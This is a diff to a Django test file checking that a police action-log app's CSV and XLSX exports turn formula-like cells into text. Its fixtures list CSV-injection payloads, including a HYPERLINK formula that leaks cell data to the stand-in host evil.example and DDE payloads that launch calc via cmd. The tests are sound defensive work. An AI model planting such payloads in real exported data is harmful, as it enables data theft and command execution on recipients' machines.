@@ -1,6 +1,7 @@
 import csv
 import datetime
 import io
+import zipfile
 
 import pytest
 from django.urls import reverse
@@ -62,7 +63,8 @@ def test_the_csv_export_is_the_filtered_list(client, log, opcc_user):
     assert response["Content-Type"] == "text/csv; charset=utf-8"
     assert response["Content-Disposition"].startswith('attachment; filename="action-log-')
     rows = list(csv.reader(io.StringIO(response.content.decode())))
-    assert rows == [COLUMNS, *EXPECTED_OPEN]
+    formula = EXPECTED_OPEN[1]
+    assert rows == [COLUMNS, EXPECTED_OPEN[0], [formula[0], f"'{formula[1]}", *formula[2:]]]
     assert [row[0] for row in rows[1:]] == _page_refs(client, {"status": "open"})
 
 
@@ -91,3 +93,70 @@ def test_a_force_officer_exports_only_what_they_may_see(client, log, other_force
     client.force_login(other_force_user)
     rows = list(csv.reader(io.StringIO(client.get(reverse("actions:export_csv")).content.decode())))
     assert [row[0] for row in rows[1:]] == ["2017/10-01", "2017/10-02", "2017/10-03"]
+
+
+# What OWASP's "CSV Injection" page lists, one per way a spreadsheet starts a formula.
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
+    "+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+@pytest.fixture
+def formulas(item, dcc):
+    """Actions whose text and due wording are formulas, and one that starts with the
+    apostrophe the CSV export uses to mark text."""
+    for number, text in enumerate([*FORMULAS, "'Quoted as minuted"], start=1):
+        ActionFactory(
+            item=item,
+            reference=f"2017/10-{number:02d}",
+            text=text,
+            owners=[dcc],
+            due_wording=text,
+        )
+
+
+def test_the_csv_export_makes_formulas_text_with_a_leading_apostrophe(client, formulas, opcc_user):
+    client.force_login(opcc_user)
+    response = client.get(reverse("actions:export_csv"))
+    rows = list(csv.reader(io.StringIO(response.content.decode(), newline="")))
+    expected = [f"'{text}" for text in [*FORMULAS, "'Quoted as minuted"]]
+    assert [row[1] for row in rows[1:]] == expected
+    assert [row[5] for row in rows[1:]] == expected
+    # Cells that start with nothing a spreadsheet runs are left as they are.
+    assert rows[1][:1] + rows[1][2:5] + rows[1][6:] == [
+        "2017/10-01",
+        "DCC",
+        "Monthly Assurance Meeting October 2017",
+        "2",
+        "",
+        "Open",
+    ]
+
+
+def test_the_xlsx_export_stores_formulas_as_text_without_an_apostrophe(client, formulas, opcc_user):
+    client.force_login(opcc_user)
+    content = client.get(reverse("actions:export_xlsx")).content
+    sheet = load_workbook(io.BytesIO(content)).active
+    texts = [*FORMULAS, "'Quoted as minuted"]
+    assert [cell.value for cell in sheet["B"][1:]] == texts
+    assert [cell.value for cell in sheet["F"][1:]] == texts
+    assert {cell.data_type for row in sheet.iter_rows(min_row=2) for cell in row if cell.value} == {
+        "s"
+    }
+    with zipfile.ZipFile(io.BytesIO(content)) as archive:
+        assert b"<f>" not in archive.read("xl/worksheets/sheet1.xml")
+
+
+def test_the_xlsx_export_leaves_out_control_characters_a_worksheet_cannot_hold(
+    client, item, dcc, opcc_user
+):
+    ActionFactory(item=item, text="Brief\x0bthe\x01 board\x1b", owners=[dcc])
+    client.force_login(opcc_user)
+    response = client.get(reverse("actions:export_xlsx"))
+    assert response.status_code == 200
+    assert load_workbook(io.BytesIO(response.content)).active["B2"].value == "Briefthe board"
